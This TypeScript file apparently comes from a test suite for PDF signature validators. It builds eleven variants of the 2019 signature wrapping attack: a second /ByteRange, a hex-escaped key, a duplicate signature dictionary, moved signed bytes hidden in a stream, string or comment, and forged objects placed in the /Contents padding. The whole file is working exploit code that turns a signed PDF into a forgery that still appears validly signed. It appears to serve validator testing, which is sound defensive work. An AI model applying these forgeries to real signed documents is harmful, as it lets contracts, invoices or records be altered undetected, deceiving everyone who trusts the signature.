import { append, bytes, closing, object, placeOf, section, startXref, text } from './bytes.ts';
import { attacks } from './case.ts';
import { forgedContent, type Victim } from './victim.ts';

/**
 * Signature wrapping ("1 Trillion Dollar Refund", 2019): the second signed part moves towards the file's end, and the forgery
 * goes into the gap that this opens, with a cross-reference where the signed startxref looks for it.
 */
interface Wrapping {
  /** What closes the dictionary's own /Contents and goes on to the gap's content. */
  readonly opening: (message: string, range: string) => string;
  /** What stands right before the moved part. */
  readonly closing?: string;
}

function wrap(victim: Victim, { opening, closing: last = '' }: Wrapping): Buffer {
  const file = text(victim.signed);
  const { values, message } = placeOf(victim.signed);
  const [, before, behind, rest] = values;
  const moved = file.slice(behind);
  const old = startXref(victim.signed);
  const forged = object(4, forgedContent);
  const build = (range: string) => {
    // The zeros behind the message are left out: that is where the room comes from.
    const head = file.slice(0, before) + opening(`<${message}>`, range) + forged;
    if (head.length > old) throw new Error('the forgery needs more room');
    const place = head.indexOf(forged, before);
    const xref = section({ 4: place }, startXref(bytes(file.slice(0, file.indexOf('%%EOF')))));
    return `${head.padEnd(old)}${xref}${closing(old)}${last}`;
  };
  const blank = '0'.repeat(10);
  const moving = build(`[0 ${before} ${blank} ${rest}]`).length;
  return bytes(build(`[0 ${before} ${String(moving).padStart(10, '0')} ${rest}]`) + moved);
}

/** The zeros behind the message are nobody's: as much room as a forgery needs, without moving anything. */
function inThePadding(victim: Victim, closeObject: (forged: string) => string): Buffer {
  const file = text(victim.signed);
  const { values, contents, message } = placeOf(victim.signed);
  const filling = closeObject(object(4, forgedContent));
  const gap = `<${message}>${filling}`;
  if (gap.length > contents.length) throw new Error('the forgery needs more room');
  const forged = bytes(file.slice(0, values[1]) + gap.padEnd(contents.length) + file.slice(values[2]));
  const at = values[1] + gap.indexOf('4 0 obj');
  return append(forged, '', () => section({ 4: at }, startXref(victim.signed)));
}

export const signatureWrapping = attacks({
  'a second /ByteRange in the gap': (victim) =>
    wrap(victim, { opening: (message, range) => `${message} /ByteRange ${range} >>\nendobj\n` }),
  'a second /ByteRange with its name in hexadecimal': (victim) =>
    wrap(victim, { opening: (message, range) => `${message} /#42yteRange ${range} >>\nendobj\n` }),
  'a second dictionary in the gap': (victim) =>
    wrap(victim, {
      opening: (message, range) =>
        `${message} >>\nendobj\n20 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ${range} /Contents ${message} >>\nendobj\n`,
    }),
  'the moved part inside a stream': (victim) =>
    wrap(victim, {
      opening: (message, range) => `${message} /ByteRange ${range} >>\nendobj\n`,
      closing: '70 0 obj\n<< /Length 999999 >>\nstream\n',
    }),
  'the moved part inside a string': (victim) =>
    wrap(victim, {
      opening: (message, range) => `${message} /ByteRange ${range} >>\nendobj\n`,
      closing: '70 0 obj\n(',
    }),
  'the moved part inside a comment': (victim) =>
    wrap(victim, {
      opening: (message, range) => `${message} /ByteRange ${range} >>\nendobj\n`,
      closing: '%',
    }),
  'the gap as another entry of the dictionary': (victim) =>
    wrap(victim, { opening: (message, range) => `${message} /ByteRange ${range} /Forgery (`, closing: ')' }),
  'a /Contents that stays open': (victim) =>
    wrap(victim, {
      opening: (message, range) => `${message.slice(0, -1)} \n%>\n /ByteRange ${range} >>\nendobj\n`,
    }),
  'the forgery in the padding of /Contents': (victim) =>
    inThePadding(victim, (forged) => ` >>\nendobj\n${forged}`),
  'the forgery in the padding, as a string': (victim) => inThePadding(victim, (forged) => `/A (\n${forged})`),
  'the forgery in the padding, as a comment': (victim) => inThePadding(victim, (forged) => `%\n${forged}`),
});
